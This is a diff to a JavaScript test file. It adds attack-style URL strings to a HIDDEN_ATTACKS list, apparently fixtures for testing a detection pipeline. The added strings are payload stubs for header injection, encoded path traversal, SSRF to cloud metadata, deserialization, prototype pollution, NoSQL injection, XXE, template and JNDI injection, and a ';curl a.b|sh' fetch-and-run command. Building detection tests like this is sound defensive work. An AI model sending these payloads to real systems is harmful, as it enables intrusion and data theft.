@@ -45,6 +45,11 @@ const HIDDEN_ATTACKS = [
   'WPScan v3.8.22 (https://wpscan.com/) nmap',
   '/api/netstats/whoami/nmap-for-beginners?q=3+row(s)+broadcast(1)',
   '/search?q=shoes+like+nike+or+3+&page=2&r=union+select',
+  '/p?x=1%0d%0aSet-Cookie:%20a=b%0A%0DHTTP/1.1%20200%0d%0a-:x%0d%0aX:y%0d%0aa-very-long-name-of-a-header-here:%0d',
+  '/p?f=%e0%80%ae%e0%81%80%f0%80%80%af%f0%80%81%81%e0%80%f0%80%80%2525252e%25252e%u2215%u2216%uefc8%uf025/',
+  '/p?u=http://169.254.169.254/latest&v=http://localhost:22/&w=http://127.1&x=gopher://a',
+  '/p?d=O:8:"stdClass":1:{s:1:"a"}&e=rO0ABXNy&f={"__proto__":{}}&password[$ne]=1&g=<!ENTITY%20a%20SYSTEM%20"b">',
+  '/p?n={{7*7}}&m={{campaign.name}}&l=${j${lower:n}di:ldap://x}&c=;curl+a.b|sh&r=return_to=//a',
 ];
 
 describe('a compiled pipeline in Elasticsearch', () => {
